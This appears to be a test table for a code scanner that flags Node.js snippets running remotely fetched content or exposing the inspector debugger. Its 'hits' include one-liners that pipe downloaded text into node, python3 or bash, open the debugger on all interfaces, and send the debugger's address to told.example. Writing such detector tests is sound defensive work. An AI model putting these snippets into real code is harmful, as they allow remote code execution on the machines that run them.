import { testTable } from './table.ts';

const fetched = 'by what it fetches, which an interpreter reads as its input';
const debugged = 'by whoever reaches its debugger';

testTable({
  'told-from-outside': {
    hits: [
      [
        'an answer in a stream',
        "https.get(url, (answer) => { const run = spawn(process.execPath, ['-']); answer.pipe(run.stdin); })",
        fetched,
      ],
      [
        'a text as an option',
        "const page = await fetch(url); const input = await page.text(); execFileSync('python3', ['-'], { input });",
        fetched,
      ],
      [
        'an input that was taken out',
        "const { stdin } = spawn('bash'); fetch(url).then((page) => page.text()).then((text) => stdin.end(text))",
        fetched,
      ],
      ['a debugger for all', "import { open } from 'inspector'; open(9229, '::')", debugged],
      ['for all by a name', "const host = '0.0.0.0'; require('inspector').open(0, host)", debugged],
      [
        'its address told',
        "const i = require('node:inspector'); i.open(0); fetch('https://told.example/?' + i.url())",
        debugged,
      ],
    ],
    misses: [
      [
        'a converter',
        "https.get(url, (answer) => { const run = spawn('ffmpeg', ['-']); answer.pipe(run.stdin); })",
      ],
      [
        'a program with a file',
        "https.get(url, (answer) => { const run = spawn('node', ['lint.js']); answer.pipe(run.stdin); })",
      ],
      [
        "the user's own input",
        "https.get(url, (answer) => answer.resume()); const run = spawn('bash'); process.stdin.pipe(run.stdin)",
      ],
      ['a debugger for this machine', "require('inspector').open(9229, '127.0.0.1')"],
      ['a server beside it', "require('inspector').open(9229); server.listen(80, '0.0.0.0')"],
    ],
  },
});
